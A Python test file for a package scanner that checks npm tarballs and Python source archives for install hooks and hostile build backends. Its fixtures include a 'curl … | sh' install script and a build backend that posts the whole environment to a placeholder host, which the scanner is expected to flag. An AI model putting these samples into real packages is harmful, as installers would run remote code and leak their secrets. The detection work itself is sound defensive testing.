"""What installing runs: npm's scripts, packed and installed; build backends and commands that a source archive brings itself."""

import contextlib
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jingwei.errors import LimitError, ParseError
from jingwei.layers.tools.packages.contents.npm import read_module
from jingwei.layers.tools.packages.contents.sdist import read_sdist
from jingwei.layers.tools.packages.judging.verdict import Verdict, worst
from jingwei.limits import LIMITS, Limits
from tests.layers.tools.packages.contents import packing


def tarball(document, **files):
    listed = {"package.json": json.dumps(document).encode(), **files}
    return packing.tarred({f"package/{path}": content for path, content in listed.items()})


def judged(data, limits=LIMITS):
    return read_sdist(memoryview(data), "left-1.2.3.tgz", limits, sources=True)


def told(found):
    return {(one.rule, one.name) for one in found.problems if one.rule != "code.scripts"}


LEFT = {"name": "left", "version": "1.2.3", "license": "MIT"}


def test_an_npm_package():
    found = judged(tarball(LEFT))
    about = found.about
    assert (about.name, about.version, about.ecosystem, about.stated) == ("left", "1.2.3", "npm", "MIT")
    assert told(found) == set()
    assert worst(one.verdict for one in found.problems) is Verdict.UNPROVED  # JavaScript is not examined


@pytest.mark.parametrize(
    ("scripts", "rules"),
    [
        ({"postinstall": "node a.js"}, {("hook.npm", "postinstall: node a.js")}),
        ({"test": "curl https://x.invalid | sh"}, set()),
        ({"preinstall": "curl https://x.invalid | sh"}, {
            ("hook.npm", "preinstall: curl https://x.invalid | sh"), ("code.download-exec", "preinstall: curl https://x.invalid | sh"),
        }),
        ({"install": 3}, set()),
    ],
)  # fmt: skip
def test_scripts_at_install(scripts, rules):
    assert told(judged(tarball(LEFT | {"scripts": scripts}))) == rules


def test_a_binding_is_built_unless_a_script_says_otherwise():
    built = {("hook.npm", "binding.gyp: node-gyp rebuild")}
    assert told(judged(tarball(LEFT, **{"binding.gyp": b"{}"}))) == built
    assert told(judged(tarball(LEFT | {"scripts": {"install": "true"}}, **{"binding.gyp": b"{}"}))) != built


def test_installed(tmp_path):
    folder = tmp_path / "left"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps(LEFT | {"scripts": {"install": "node-gyp rebuild"}}))
    found = read_module(folder, LIMITS)
    assert (found.about.name, told(found)) == ("left", {("hook.npm", "install: node-gyp rebuild")})


@pytest.mark.parametrize("content", [b"", b"[]", b"{", b'{"name": 3}', b"\xff", b'{"name": "a", "version": ""}'])
def test_an_installed_package_that_cannot_be_read(tmp_path, content):
    (tmp_path / "package.json").write_bytes(content)
    found = read_module(tmp_path, LIMITS)
    assert found.about is None
    assert "metadata.missing" in {one.rule for one in found.problems}


def test_bounds():
    found = judged(tarball(LEFT), Limits(metadata_bytes=4))
    assert {one.rule for one in found.problems} == {"metadata.missing"}


BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "tools.build"\nbackend-path = ["."]\n'
HOSTILE = b"import os, requests\ndef build_wheel(*a):\n    requests.post('https://x.invalid', json=dict(os.environ))\n"


def built(files):
    return {
        one.rule
        for one in read_sdist(memoryview(packing.sdist(files)), "demo-1.0.tar.gz", LIMITS, sources=True).problems
    }


def test_a_backend_in_the_archive_is_run_by_installing():
    assert built({"pyproject.toml": BACKEND, "tools/build.py": b""}) == {"hook.backend"}
    assert built({"pyproject.toml": BACKEND, "tools/build.py": HOSTILE}) == {"hook.backend", "code.exfiltration"}
    assert built({"pyproject.toml": BACKEND, "other.py": HOSTILE}) == {"hook.backend", "code.exfiltration-likely"}
    assert built({"pyproject.toml": b'[build-system]\nbuild-backend = "hatchling.build"\n'}) == set()


def test_commands_of_setup_cfg():
    assert built({"setup.cfg": b"[options]\ncmdclass =\n  install = tools.build.Install\n", "tools/build.py": HOSTILE}) == {
        "hook.backend", "code.exfiltration",
    }  # fmt: skip
    assert built({"setup.cfg": b"[metadata]\nname = demo\n"}) == set()


@pytest.mark.parametrize("content", [b"\xff", b"[", b"a = 1979-05-27T25:00:00"])
def test_broken_settings_are_told(content):
    assert built({"pyproject.toml": content}) == {"archive.unreadable"}


@settings(max_examples=25, deadline=None)
@given(st.binary(max_size=60), st.sampled_from(["pyproject.toml", "setup.cfg"]))
def test_any_settings_give_problems_or_nothing(content, path):
    built({path: content})


@settings(max_examples=20, deadline=None)
@given(st.data())
def test_damaged_tarballs(data):
    content = bytearray(tarball(LEFT | {"scripts": {"install": "x"}}))
    for _ in range(3):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(ParseError, LimitError):
        judged(bytes(content))
